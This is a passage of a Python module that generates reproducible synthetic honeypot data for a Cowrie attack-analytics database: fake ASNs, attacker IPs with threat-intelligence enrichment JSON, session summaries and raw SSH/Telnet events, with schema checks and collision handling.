        finally:
            cursor.close()

    def existing(self, kind: str, keys: Sequence[object]) -> set[Any]:
        if not keys:
            return set()
        if self.copier is not None:
            self.copier.flush()  # the connection serves one statement at a time
        param: object = list(keys) if self.pg else _JSON.encode(list(keys))
        sql = _EXISTING_SQL[(self.dialect, kind)]
        return {row[0] for row in self.conn.execute(sa.text(sql), {"keys": param})}


def _check_schema(engine: Engine) -> None:
    inspector = sa.inspect(engine)
    tables = set(inspector.get_table_names())
    missing = [t for t in _REQUIRED_TABLES if t not in tables]
    hint = "run `alembic upgrade head` (at least `alembic upgrade 0002_snapshot_columns`) first"
    if missing:
        raise DemoDataError(
            "the database is not at Alembic revision 0002_snapshot_columns or later: "
            f"table(s) {', '.join(missing)} missing; {hint}"
        )
    columns = {c["name"] for c in inspector.get_columns("session_summaries")}
    lacking = [c for c in SNAPSHOT_COLUMNS if c not in columns]
    if lacking:
        raise DemoDataError(
            "the database is not at Alembic revision 0002_snapshot_columns or later: "
            f"session_summaries has no {', '.join(lacking)} column(s); {hint}"
        )


def _validate(spec: DemoSpec, chunk_size: int) -> None:
    problems: list[str] = []
    if spec.sessions < 0:
        problems.append(f"sessions must be >= 0 (got {spec.sessions})")
    if spec.ips < 0:
        problems.append(f"ips must be >= 0 (got {spec.ips})")
    if spec.sessions > 0 and spec.ips < 1:
        problems.append(f"ips must be >= 1 when sessions > 0 (got {spec.ips})")
    if spec.asns < 0:
        problems.append(f"asns must be >= 0 (got {spec.asns})")
    for name in ("unmatched_fraction", "ipv6_fraction", "raw_only_fraction"):
        value = getattr(spec, name)
        if not (isinstance(value, int | float) and 0.0 <= value <= 1.0):
            problems.append(f"{name} must be within [0, 1] (got {value!r})")
    if chunk_size < 1:
        problems.append(f"chunk_size must be >= 1 (got {chunk_size})")
    if problems:
        raise DemoDataError("invalid demo data spec: " + "; ".join(problems))


# --- the plan -------------------------------------------------------------------------


@dataclass(frozen=True)
class _Asn:
    number: int
    name: str
    country: int  # index into _COUNTRIES (where the ASN is registered)
    kind: str
    weight: float

    @functools.cached_property
    def name_json(self) -> str:
        return _JSON.encode(self.name)


_KNOWN_SHARE = 0.25


def _build_asns(rng: random.Random, count: int) -> list[_Asn]:
    asns = [
        _Asn(number, name, _COUNTRY_INDEX[cc], kind, weight)
        for number, name, cc, kind, weight in _KNOWN_ASNS[:count]
    ]
    used = {a.number for a in asns}
    while len(asns) < count:
        number = rng.randrange(1_000, 400_000)
        if number in used or number == 23_456 or 64_496 <= number <= 131_071:
            continue  # AS_TRANS and the reserved, documentation and private ranges
        used.add(number)
        country = rng.choices(_COUNTRY_RANGE, cum_weights=_COUNTRY_CUM)[0]
        kind = rng.choices(_KINDS, cum_weights=_KIND_CUM)[0]
        name = (
            f"{rng.choice(_NAME_HEADS)}{rng.choice(_NAME_TAILS)} "
            f"{rng.choice(_KIND_WORDS[kind])} {rng.choice(_SUFFIXES)}"
        ).strip()
        weight = min(rng.paretovariate(1.6), 20.0)  # countries are skewed by their count
        asns.append(_Asn(number, name, country, kind, weight))
    known = min(count, len(_KNOWN_ASNS))
    synthetic = sum(a.weight for a in asns[known:])
    if synthetic:  # the well-known networks keep _KNOWN_SHARE of the IPs, whatever the count
        scale = _KNOWN_SHARE / (1 - _KNOWN_SHARE) * synthetic / sum(a.weight for a in asns[:known])
        asns[:known] = [dataclasses.replace(a, weight=a.weight * scale) for a in asns[:known]]
    return asns


_ZIPF_EXPONENT = 0.9
_DURATION_MU = 3.0  # log-normal session duration: median ~20 s, mean ~1 min, long tail
_DURATION_SIGMA = 1.5
_MAX_DURATION = 6 * 3600 * _SECOND


@functools.cache
def _durations() -> tuple[int, ...]:
    """Quantiles of the log-normal session duration (a lookup beats gauss() + exp())."""
    law = statistics.NormalDist(_DURATION_MU, _DURATION_SIGMA)
    n = 4096
    return tuple(
        min(int(math.exp(law.inv_cdf((i + 0.5) / n)) * _SECOND), _MAX_DURATION) + 200_000
        for i in range(n)
    )


class _Timeline:
    """Start and end times of ``total`` sessions, in ascending order of start.

    The starts are the order statistics of ``total`` uniform draws over the year,
    produced one after the other (a Poisson-like arrival process, streamed in O(1)
    memory): the loader ingests in time order, and so does this, which also keeps
    the time indexes' inserts at their right-hand edge.
    """

    def __init__(self, rng: random.Random, total: int) -> None:
        self._uniform = rng.random
        self._left = total
        self._at = 0.0  # fraction of the window reached

    def take(self, k: int) -> tuple[list[int], list[int]]:
        uniform, durations, at, left = self._uniform, _durations(), self._at, self._left
        n = len(durations)
        starts: list[int] = []
        ends: list[int] = []
        for _ in range(k):  # one start and one duration after the other, whatever k is
            at += (1.0 - at) * (1.0 - uniform() ** (1.0 / left))
            left -= 1
            start = int(at * _WINDOW)
            starts.append(start)
            ends.append(start + durations[int(uniform() * n)])
        self._at, self._left = at, left
        return starts, ends


class _Rngs:
    """Independent, reproducible random streams, one per purpose, named under ``base``.

    String seeds are hashed with SHA-512, whatever ``PYTHONHASHSEED`` is.
    """

    def __init__(self, base: str) -> None:
        self.base = base

    def __call__(self, name: str) -> random.Random:
        return random.Random(f"{self.base}/{name}")


class _AttackStream:
    """IP and times of the matched sessions, in order, replayable from the seed.

    The pre-pass and the real pass read it from two fresh instances, so the per-IP
    counts and first/last times computed up front match the sessions exactly. Each IP
    gets one session (spread evenly through the stream) when there are enough matched
    sessions; the others follow the Zipf-like weights.
    """

    def __init__(self, rng: _Rngs, ips: int, matched: int, cum_weights: list[float]) -> None:
        self._draw = rng("ip-draw")
        self._time = _Timeline(rng("matched-time"), matched)
        self._ips = ips
        self._matched = max(matched, 1)
        self._cum = cum_weights
        self._population = range(ips)
        self._j = 0

    def take(self, k: int) -> tuple[list[int], list[int], list[int]]:
        draws = self._draw.choices(self._population, cum_weights=self._cum, k=k)
        ips, total, j0 = self._ips, self._matched, self._j
        if ips >= total:  # no more sessions than IPs: each session covers the next IP
            for t in range(k):
                draws[t] = ((j0 + t) * ips) // total
        else:  # IP c gets its own session at position ceil(c * total / ips)
            c = (j0 * ips) // total
            while (j := -(-c * total // ips)) < j0 + k:
                if j >= j0:
                    draws[j - j0] = c
                c += 1
        self._j = j0 + k
        starts, ends = self._time.take(k)
        return draws, starts, ends


# --- the generator --------------------------------------------------------------------


class _Generator:
    def __init__(
        self,
        spec: DemoSpec,
        sink: _Sink,
        fmt: _Format,
        chunk_size: int,
        check: dict[str, bool],
        salt: str,
    ) -> None:
        self.rng = _Rngs(f"cowrie-demo/{spec.seed}{salt}")
        self.spec = spec
        self.sink = sink
        self.fmt = fmt
        self.chunk_size = chunk_size
        self.check = check  # key kinds whose table had rows: look every new key up
        self.rng_asn = self.rng("asn")
        self.rng_ipattr = self.rng("ip-attributes")
        self.rng_ip = self.rng("ip-rows")
        self.rng_sel = self.rng("select")
        self.rng_unmatched = self.rng("unmatched")
        self.rng_sess = self.rng("session-rows")
        self.ip_stream = _IpStream(self.rng("ip-keys"))
        keys = self.rng("session-keys")
        self.sid_keys = (keys.getrandbits(48), keys.getrandbits(48))
        self.sid_counter = 0
        self.ingest_tag = f"{keys.getrandbits(32):08x}"
        self.file_offsets: dict[str, int] = {}

        n = spec.sessions
        self.n_unmatched = round(n * spec.unmatched_fraction)
        self.n_raw_only = round(n * spec.raw_only_fraction)
        self.n_matched = n - self.n_unmatched
        n_asns = spec.asns or (max(10, round(spec.ips / 40)) if spec.ips else 0)
        self.asns = _build_asns(self.rng_asn, n_asns)
        if spec.ips and not self.asns:
            raise DemoDataError("asns must be >= 1 when ips > 0")
        self.ip_asn = array("i")  # per inventory IP: index into self.asns
        self.ip_country = array("B")  # index into _COUNTRIES (where MaxMind places it)
        self.ip_v6 = bytearray()
        self.ip_count = array("q")  # sessions of each IP, and their first / last times
        self.ip_first = array("q")
        self.ip_last = array("q")
        self.cum_weights: list[float] = []
        self.ip_strings: list[str] = []
        self.unmatched_pool: list[str] = []
        self.result = DemoResult(0, 0, 0, 0, 0, 0, 0.0)

    def plan(self) -> None:
        """Give the IPs their ASN and country, then replay the attacks to count them."""
        spec, rng = self.spec, self.rng_ipattr
        ips = spec.ips
        if ips:
            asn_cum = list(itertools.accumulate(a.weight for a in self.asns))
            asn_of = rng.choices(range(len(self.asns)), cum_weights=asn_cum, k=ips)
            self.ip_asn = array("i", asn_of)
        self.ip_country = array("B", bytes(ips))
        self.ip_v6 = bytearray(ips)
        r = rng.random
        for idx in range(ips):
            asn = self.asns[self.ip_asn[idx]]
            if r() < (0.35 if asn.kind == "hosting" else 0.04):  # hosted abroad
                self.ip_country[idx] = rng.choices(_COUNTRY_RANGE, cum_weights=_COUNTRY_CUM)[0]
            else:
                self.ip_country[idx] = asn.country
            self.ip_v6[idx] = r() < spec.ipv6_fraction

        count = self.ip_count = array("q", bytes(8 * ips))
        first = self.ip_first = array("q", [2 * _WINDOW]) * ips
        last = self.ip_last = array("q", [-1]) * ips
        self.cum_weights = list(
            itertools.accumulate(1.0 / (k + 1) ** _ZIPF_EXPONENT for k in range(ips))
        )
        stream = _AttackStream(self.rng, ips, self.n_matched, self.cum_weights)
        left = self.n_matched
        while left:
            k = min(self.chunk_size, left)
            left -= k
            draws, starts, ends = stream.take(k)
            for ip, s, e in zip(draws, starts, ends, strict=True):
                count[ip] += 1
                if s < first[ip]:
                    first[ip] = s
                if e > last[ip]:
                    last[ip] = e
        idle = self.rng("idle-ips")
        for idx in range(ips):
            if not count[idx]:  # more IPs than sessions: an IP without a session
                first[idx] = int(idle.random() * _WINDOW)
                last[idx] = first[idx] + idle.randrange(_SECOND, 30 * _DAY)

    # -- ASNs ------------------------------------------------------------------------

    def write_asns(self) -> None:
        n = len(self.asns)
        ips = array("q", bytes(8 * n))
        sessions = array("q", bytes(8 * n))
        first = array("q", [2 * _WINDOW]) * n
        last = array("q", [-1]) * n
        for idx, owner in enumerate(self.ip_asn):
            ips[owner] += 1
            sessions[owner] += self.ip_count[idx]
            first[owner] = min(first[owner], self.ip_first[idx])
            last[owner] = max(last[owner], self.ip_last[idx])
        fmt, rng = self.fmt, self.rng_asn
        rows: list[Row] = []
        for i, a in enumerate(self.asns):
            if not ips[i]:
                first[i] = int(rng.random() * _WINDOW)
                last[i] = first[i] + rng.randrange(_DAY, 60 * _DAY)
            enriched = last[i] + rng.randrange(_SECOND, 3 * _DAY)
            code, registry = _COUNTRIES[a.country][0], _COUNTRIES[a.country][4]
            allocated = f"{rng.randrange(1996, 2024)}-{rng.randrange(1, 13):02d}-01"
            enrichment = (
                f'{{"source":"cymru","asn":{a.number},"description":{a.name_json},'
                f'"country":"{code}","registry":"{registry.lower()}",'
                f'"allocated":"{allocated}","prefix_count":{rng.randrange(1, 4000)}}}'
            )
            rows.append(
                (
                    a.number, a.name, code, registry, a.kind, fmt.ts(first[i]),
                    fmt.ts(last[i]), ips[i], sessions[i], enrichment, fmt.ts(enriched),
                    fmt.ts(first[i]), fmt.ts(enriched),
                )
            )  # fmt: skip
        with self.sink.chunk():
            if self.check["asn"]:  # an ASN that exists already is reused as it is
                taken = self.sink.existing("asn", [row[0] for row in rows])
                rows = [row for row in rows if row[0] not in taken]
            self.sink.write(_ASN_TABLE, rows)
        self.result.asns = len(rows)

    # -- IPs -------------------------------------------------------------------------

    def _ip_string(self, idx: int) -> str:
        if self.ip_v6[idx]:
            return self.ip_stream.v6(_COUNTRIES[self.ip_country[idx]][4])
        return self.ip_stream.v4()

    def _fresh(self, kind: str, keys: list[str], regenerate: Callable[[int], str]) -> None:
        """Replace, in place, each key that exists already by the next of its stream."""
        if not self.check[kind]:
            return
        todo = list(range(len(keys)))
        while todo:
            taken = self.sink.existing(kind, [keys[i] for i in todo])
            todo = [i for i in todo if keys[i] in taken]
            for i in todo:
                keys[i] = regenerate(i)

    def write_ips(self) -> None:
        ips = self.spec.ips
        step = max(1, self.chunk_size // 4)  # an IP row is ~4 times the size of a session's
        for lo in range(0, ips, step):
            hi = min(ips, lo + step)
            strings = [self._ip_string(idx) for idx in range(lo, hi)]

            def again(i: int, lo: int = lo) -> str:
                return self._ip_string(lo + i)

            with self.sink.chunk():
                self._fresh("ip", strings, again)
                rows = [self._ip_row(lo + i, ip) for i, ip in enumerate(strings)]
                self.sink.write(_IP_TABLE, rows)
            self.ip_strings.extend(strings)
        self.result.ips = ips

        # The IPs of the unmatched sessions: later values of the same bijections, so
        # never one of the new inventory IPs; checked against rows that were there.
        if self.n_unmatched:
            rng = self.rng_unmatched

            def unmatched_ip(_i: int) -> str:
                if rng.random() < self.spec.ipv6_fraction:
                    country = rng.choices(_COUNTRY_RANGE, cum_weights=_COUNTRY_CUM)[0]
                    return self.ip_stream.v6(_COUNTRIES[country][4])
                return self.ip_stream.v4()

            pool = [unmatched_ip(i) for i in range(max(1, math.ceil(self.n_unmatched / 4)))]
            with self.sink.chunk():
                self._fresh("ip", pool, unmatched_ip)
            self.unmatched_pool = pool

    def _ip_row(self, idx: int, ip: str) -> Row:
        fmt, rng = self.fmt, self.rng_ip
        r = rng.random
        asn = self.asns[self.ip_asn[idx]]
        code, cname, city, _w, _registry, lat, lon = _COUNTRIES[self.ip_country[idx]]
        asn_code, registry = _COUNTRIES[asn.country][0], _COUNTRIES[asn.country][4]
        first, last, count = self.ip_first[idx], self.ip_last[idx], self.ip_count[idx]
        enriched: int | None = last + _SECOND + int(r() * 3 * _DAY)
        if r() < 0.005:
            enriched = None
        stamp = _cowrie_ts(last if enriched is None else enriched)
        types = _ip_types(r, asn.kind)
        prefix = _prefix(ip)
        name = asn.name_json

        maxmind = (
            f'"maxmind":{{"country":"{code}","country_name":"{cname}",'
            f'"city":{"null" if r() < 0.4 else _JSON.encode(city)},'
            f'"latitude":{lat + 6 * r() - 3:.4f},"longitude":{lon + 6 * r() - 3:.4f},'
            f'"accuracy_radius":{(5, 20, 50, 100, 500, 1000)[int(r() * 6)]},'
            f'"asn":{asn.number},"asn_org":{name}}}'
        )
        cymru = (
            f'"cymru":{{"asn":{asn.number},"asn_name":{name},"country":"{asn_code}",'
            f'"prefix":"{prefix}","registry":"{registry.lower()}"}}'
        )
        dshield = (
            f'"dshield":{{"ip":{{"asn":"{asn.number}","asname":{name},'
            f'"ascountry":"{asn_code}","count":"{count}",'
            f'"attacks":"{count * (1 + int(r() * 5))}","network":"{prefix}"}}}}'
        )
        parts: list[str] = []
        roll = r()
        if roll < 0.90:  # MaxMind knows the country; usually the others too
            parts.append(maxmind)
            if r() < 0.85:
                parts.append(cymru)
            if r() < 0.7:
                parts.append(dshield)
        elif roll < 0.95:  # no MaxMind record: Cymru's registration country
            parts.append(cymru)
            if r() < 0.5:
                parts.append(dshield)
        elif roll < 0.99:  # DShield only
            parts.append(dshield)
        elif r() < 0.5:  # no country anywhere: geo_country becomes 'XX'
            parts.append(f'"maxmind":{{"country":null,"asn":{asn.number},"asn_org":{name}}}')
        scanner = False
        if roll < 0.99 or r() < 0.5:
            if r() < 0.5:
                parts.append(_spur(r, asn, types))
            if r() < 0.65:
                scanner = r() < 0.6
                label = "malicious" if scanner and r() < 0.7 else "unknown"
                parts.append(
                    f'"greynoise":{{"noise":{"true" if scanner else "false"},"riot":false,'
                    f'"classification":"{label}","last_seen":"{_day(last)}"}}'
                )
            parts.append(
                '"validation":{"is_bogon":false,"is_private":false,"is_reserved":false,'
                f'"checked_at":"{stamp}"}}'
            )
        enrichment = "{" + ",".join(parts) + "}"
        return (
            ip, asn.number, fmt.ts(enriched), fmt.ts(first), fmt.ts(last), count, enrichment,
            fmt.ts(enriched), "2.2", fmt.ip_types(types), fmt.flag(scanner), fmt.false,
            fmt.ts(first), fmt.ts(last if enriched is None else enriched),
        )  # fmt: skip

    # -- sessions and their events ---------------------------------------------------

    def _session_id(self, _i: int = 0) -> str:
        value = _mix48(self.sid_counter, *self.sid_keys)
        self.sid_counter += 1
        return f"{value:012x}"

    def _session_ids(self, n: int) -> list[str]:
        k1, k2 = self.sid_keys
        first = self.sid_counter
        self.sid_counter += n
        return [f"{_mix48(c, k1, k2):012x}" for c in range(first, first + n)]

    def write_sessions(self, on_progress: Callable[[int, int], None] | None) -> None:
        self._prepare_sessions()
        spec = self.spec
        total = spec.sessions
        stream = _AttackStream(self.rng, spec.ips, self.n_matched, self.cum_weights)
        unmatched_times = _Timeline(self.rng("unmatched-time"), self.n_unmatched)
        sel, pick, pool = self.rng_sel.random, self.rng_unmatched.random, self.unmatched_pool
        u_left, r_left = self.n_unmatched, self.n_raw_only
        done = 0
        while done < total:
            n = min(self.chunk_size, total - done)
            unmatched: list[bool] = []
            raw_only: list[bool] = []
            for i in range(done, done + n):
                remaining = total - i  # selection sampling: exact counts, random places
                u = sel() * remaining < u_left
                u_left -= u
                ro = sel() * remaining < r_left
                r_left -= ro
                unmatched.append(u)
                raw_only.append(ro)
            n_un = sum(unmatched)
            matched = stream.take(n - n_un)
            u_ips = [pool[int(pick() ** 1.5 * len(pool))] for _ in range(n_un)]
            u_starts, u_ends = unmatched_times.take(n_un)
            ids = self._session_ids(n)
            with self.sink.chunk():
                self._fresh("session", ids, self._session_id)
                sessions, events = self._session_rows(
                    ids, unmatched, raw_only, matched, (u_ips, u_starts, u_ends)
                )
                self.sink.write(_SESSION_TABLE, sessions)
                self.sink.write(_EVENT_TABLE, events)
            done += n
            self.result.sessions = done
            self.result.unmatched_sessions += n_un
            self.result.raw_only_sessions += sum(raw_only)
            self.result.raw_events += len(events)
            if on_progress is not None:
                on_progress(done, total)

    def _prepare_sessions(self) -> None:
        """Lookup tables for the session rows (drawing from them is cheaper than building)."""
        self.profiles = _behaviours(self.rng("behaviours"), self.fmt)
        self.metas = _metadata(self.rng("metadata"))
        self.asn_dshield = [  # the start of the "dshield" section, per ASN
            f'"dshield":{{"ip":{{"asn":"{a.number}","asname":{a.name_json},'
            f'"ascountry":"{_COUNTRIES[a.country][0]}",'
            for a in self.asns
        ]

    def _session_rows(
        self,
        ids: list[str],
        unmatched: list[bool],
        raw_only: list[bool],
        matched: tuple[list[int], list[int], list[int]],
        others: tuple[list[str], list[int], list[int]],
    ) -> tuple[list[Row], list[Row]]:
        """One chunk of session rows (sorted by id) and the raw events that go with them."""
        fmt, r = self.fmt, self.rng_sess.random
        ts, flagged, not_flagged = fmt.ts, fmt.true, fmt.false
        profiles, metas, asn_dshield = self.profiles, self.metas, self.asn_dshield
        n_profiles, n_metas = len(profiles), len(metas)
        ip_strings, ip_asn, ip_count = self.ip_strings, self.ip_asn, self.ip_count
        days, log_dir = _DAYS, _LOG_DIR
        m_ips, m_starts, m_ends = matched
        u_ips, u_starts, u_ends = others
        sessions: list[Row] = []
        events: list[Row] = []
        mi = ui = 0
        for k, sid in enumerate(ids):
            if unmatched[k]:
                ip, start, end = u_ips[ui], u_starts[ui], u_ends[ui]
                ui += 1
                dshield = _DSHIELD_ERRORS[int(r() * len(_DSHIELD_ERRORS))]
            else:
                idx = m_ips[mi]
                ip, start, end = ip_strings[idx], m_starts[mi], m_ends[mi]
                mi += 1
                seen = ip_count[idx]
                dshield = f'{asn_dshield[ip_asn[idx]]}"count":"{seen}","attacks":"{3 * seen}"}}}}'
            count, commands, downloads, logins, injections, keys, vt, risk = profiles[
                int(r() * n_profiles)
            ]
            protocol, sensor, client, meta = metas[int(r() * n_metas)]
            roll = r()
            if roll < 0.2:
                dshield += _URLHAUS[roll < 0.16]
            enrichment: str | None
            if raw_only[k]:  # the canonical IP is known only from raw_events
                roll = r()
                if roll < 0.25:
                    enrichment = None
                elif roll < 0.5:
                    enrichment = "{}"
                elif roll < 0.75:
                    enrichment = '{"session_metadata":{}}'
                else:
                    enrichment = f'{{"session_metadata":{{{meta}}},{dshield}}}'
                n_events = 1 + int(r() * 4)
            else:
                enrichment = f'{{"session_metadata":{{"source_ip":"{ip}",{meta}}},{dshield}}}'
                roll = r()
                n_events = 1 + int(roll * 60) if roll < 0.05 else 0  # 5%: 1-3 events
            if n_events:
                self._events(sid, ip, start, end, n_events, sensor, protocol, client, events)
                count = max(count, n_events)
            d0, d1 = start // _DAY, end // _DAY
            if d0 == d1:
                files = f'["{log_dir}{days[d0]}"]'
            else:
                files = f'["{log_dir}{days[d0]}","{log_dir}{days[d1]}"]'
            created = ts(end + _SECOND + int(r() * 7200 * _SECOND))  # the loader's next run
            sessions.append(
                (
                    sid, ts(start), ts(end), count, commands, downloads, logins, injections,
                    keys, vt, flagged if r() < 0.3 else not_flagged, risk, protocol, files,
                    enrichment, created, created,
                )
            )  # fmt: skip
        sessions.sort()  # by session_id: the primary key index is written in key order
        return sessions, events

    def _events(
        self,
        sid: str,
        ip: str,
        start: int,
        end: int,
        n: int,
        sensor: str,
        protocol: str,
        client: str | None,
        out: list[Row],
    ) -> None:
        fmt, rng = self.fmt, self.rng_sess
        span = max(end - start, 1_000 * n)
        # strictly increasing; the first one is the connection, at first_event_at
        times = [start] + [
            start + (span * k) // n + int(rng.random() * (span // (2 * n))) for k in range(1, n)
        ]
        kinds = ["cowrie.session.connect"]
        if n >= 2:
            kinds += [rng.choice(_MIDDLE_EVENTS) for _ in range(n - 2)]
            kinds.append("cowrie.session.closed")
        rows: list[Row] = []
        for kind, at in zip(kinds, times, strict=True):
            payload: dict[str, object] = {
                "eventid": kind,
                "session": sid,
                "src_ip": ip,
                "sensor": sensor,
                "timestamp": _cowrie_ts(at),
            }
            if kind == "cowrie.session.connect":
                port = 22 if protocol == "ssh" else 23
                src_port = rng.randrange(1024, 65536)
                payload |= {
                    "src_port": src_port,
                    "dst_ip": "10.0.0.4",
                    "dst_port": port,
                    "protocol": protocol,
                    "message": f"New connection: {ip}:{src_port} (10.0.0.4:{port}) "
                    f"[session: {sid}]",
                }
            elif kind == "cowrie.client.version":
                version = client or "SSH-2.0-Go"
                payload |= {"version": version, "message": f"Remote SSH version: {version}"}
            elif kind == "cowrie.client.kex":
                payload |= {
                    "hassh": f"{rng.getrandbits(128):032x}",
                    "message": "SSH client hassh fingerprint",
                }
            elif kind in ("cowrie.login.failed", "cowrie.login.success"):
                user, password = rng.choice(_USERNAMES), rng.choice(_PASSWORDS)
                outcome = "failed" if kind.endswith("failed") else "succeeded"
                payload |= {
                    "username": user,
                    "password": password,
                    "message": f"login attempt [{user}/{password}] {outcome}",
                }
            elif kind == "cowrie.command.input":
                command = rng.choice(_COMMANDS)
                payload |= {"input": command, "message": f"CMD: {command}"}
            else:
                duration = round((at - start) / _SECOND, 1)
                payload |= {
                    "duration": duration,
                    "message": f"Connection lost after {duration} seconds",
                }
            text = _SORTED_JSON.encode(payload)
            day = _day(at)
            source = _LOG_DIR + day
            offset = self.file_offsets.get(source, 0)
            self.file_offsets[source] = offset + len(text.encode()) + 1
            ingest_at = (at // _DAY + 1) * _DAY + 300 * _SECOND  # the next night's ingest
            digest = hashlib.sha256(text.encode()).hexdigest()
            rows.append(
                (
                    f"{day}-{self.ingest_tag}", fmt.ts(ingest_at), source, offset, text, digest,
                    sid, kind, fmt.ts(at),
                )
            )  # fmt: skip
        if n >= 2 and rng.random() < 0.1:
            rng.shuffle(rows)  # ingested out of order: ids do not follow the timestamps
        out.extend(rows)


Profile = tuple[int, int, int, int, int, int, object, int | None]


def _behaviours(rng: random.Random, fmt: _Format) -> list[Profile]:
    """A table of session behaviours to draw from (one lookup instead of ~10 draws).

    Each: event_count, command_count, file_downloads, login_attempts,
    ssh_key_injections, unique_ssh_keys, vt_flagged (spelled for the dialect), risk_score.
    """
    r = rng.random
    table: list[Profile] = []
    for _ in range(4096):
        kind = r()
        commands = downloads = keys = 0
        if kind < 0.42:  # scanner: connects, maybe tries one login, leaves
            logins = 0 if r() < 0.6 else 1
        elif kind < 0.80:  # password brute force
            logins = 1 + int(rng.expovariate(0.25))
        elif kind < 0.985:  # bot that gets a shell
            logins = 1 + int(rng.expovariate(0.7))
            commands = 1 + int(rng.expovariate(0.1))
            downloads = 1 + int(r() * 3) if r() < 0.3 else 0
            keys = 1 if r() < 0.12 else 0
        else:  # long interactive session
            logins = 1 + int(r() * 5)
            commands = 20 + int(r() * 281)
            downloads = int(r() * 9)
            keys = 1 if r() < 0.3 else 0
        events = 3 + logins + commands + 2 * downloads + keys + (r() < 0.5)
        vt = downloads > 0 and r() < 0.25
        risk = min(100, 5 + 2 * logins + 3 * commands + 15 * downloads + 20 * keys + 25 * vt)
        injections = keys * (1 + (r() < 0.3))
        table.append(
            (events, commands, downloads, logins, injections, keys, fmt.flag(vt),
             None if r() < 0.02 else risk)
        )  # fmt: skip
    return table


def _metadata(rng: random.Random) -> list[tuple[str, str, str | None, str]]:
    """(protocol, sensor, client, session_metadata fields without source_ip) to draw from."""
    table: list[tuple[str, str, str | None, str]] = []
    for _ in range(256):
        sensor = rng.choice(_SENSORS)
        if rng.random() < 0.15:
            protocol, client, version = "telnet", None, ""
        else:
            protocol, client = "ssh", rng.choice(_SSH_CLIENTS)
            version = f',"client_version":"{client}"'
        fields = f'"sensor":"{sensor}","protocol":"{protocol}"{version}'
        table.append((protocol, sensor, client, fields))
    return table


def _ip_types(r: Callable[[], float], kind: str) -> list[str]:
    """IP classifications, highest priority first; about a quarter of the IPs have none."""
    if r() < 0.1:
        return []
    found: set[str] = set()
    if kind == "hosting":
        if r() < 0.9:
            found.add("DATACENTER")
        if r() < 0.12:
            found.add("VPN")
        if r() < 0.06:
            found.add("PROXY")
        if r() < 0.02:
            found.add("TOR")
    elif kind == "isp":
        if r() < 0.85:
            found.add("RESIDENTIAL")
        if r() < 0.05:
            found.add("PROXY")
    elif kind == "mobile":
        if r() < 0.9:
            found.add("MOBILE")
        if r() < 0.03:
            found.add("PROXY")
    elif r() < 0.6:
        found.add("DATACENTER" if r() < 0.5 else "RESIDENTIAL")
    return [t for t in _IP_TYPE_ORDER if t in found]


def _spur(r: Callable[[], float], asn: _Asn, types: list[str]) -> str:
    infrastructure = next((t for t in types if t in ("DATACENTER", "RESIDENTIAL", "MOBILE")), None)
    tunnels = []
    for t in types:
        if t in ("VPN", "TOR", "PROXY"):
            operator = (
                f'"{_VPN_OPERATORS[int(r() * len(_VPN_OPERATORS))]}"' if t == "VPN" else "null"
            )
            tunnels.append(f'{{"type":"{t}","operator":{operator},"anonymous":true}}')
    risks = '"CALLBACK_PROXY"' if "PROXY" in types else ""
    return (
        f'"spur":{{"as":{{"number":{asn.number},"organization":{asn.name_json}}},'
        f'"infrastructure":{_JSON.encode(infrastructure)},'
        f'"tunnels":[{",".join(tunnels)}],'
        f'"risks":[{risks}]}}'
    )


def generate(
    engine: Engine,
    spec: DemoSpec,
    *,
    force: bool = False,
    chunk_size: int = 20_000,
    on_progress: Callable[[int, int], None] | None = None,
) -> DemoResult:
    """Write ``spec`` worth of synthetic data into ``engine``'s database (see the module doc).

    Refuses (:class:`DemoDataError`) an invalid spec, a database below revision
    ``0002_snapshot_columns`` and, unless ``force``, one whose ``session_summaries``
    already has rows. With ``force`` the rows are added on top: nothing existing is
    changed, and a generated session id, IP or ASN number that exists already is
    skipped deterministically (the next one of its stream is taken). Calls
    ``on_progress(done_sessions, total_sessions)`` after each chunk of sessions.
    """
    started = time.perf_counter()
    _validate(spec, chunk_size)
    dialect = engine.dialect.name
    if dialect not in ("postgresql", "sqlite"):
        raise DemoDataError(f"unsupported database dialect {dialect!r}: use PostgreSQL or SQLite")
    _check_schema(engine)
    with engine.connect() as conn:
        if dialect == "sqlite":  # take the write lock up front (see db/engine.py)
            conn = conn.execution_options(sqlite_begin="IMMEDIATE")
        with conn.begin():
            sessions, ips, asns = conn.execute(sa.text(_COUNT_SQL)).one()
            tables = _target_tables(conn, dialect)
        if sessions and not force:
            raise DemoDataError(
                f"session_summaries already holds {sessions:,} rows: demo data goes into an "
                "empty database (pass force=True, or --force, to add it on top)"
            )
        # On top of existing rows, every stream is salted with what is there: a second
        # run with the same seed then draws new keys instead of skipping the old ones.
        salt = f"/on-top-of/{sessions}/{ips}/{asns}" if sessions or ips or asns else ""
        check = {"session": sessions > 0, "ip": ips > 0, "asn": asns > 0}
        sink = _Sink(conn, dialect, tables)
        generator = _Generator(spec, sink, _Format(dialect), chunk_size, check, salt)
        with sink.run():
            generator.plan()
            generator.write_asns()
            generator.write_ips()
            generator.write_sessions(on_progress)
    result = generator.result
    result.seconds = time.perf_counter() - started
    return result
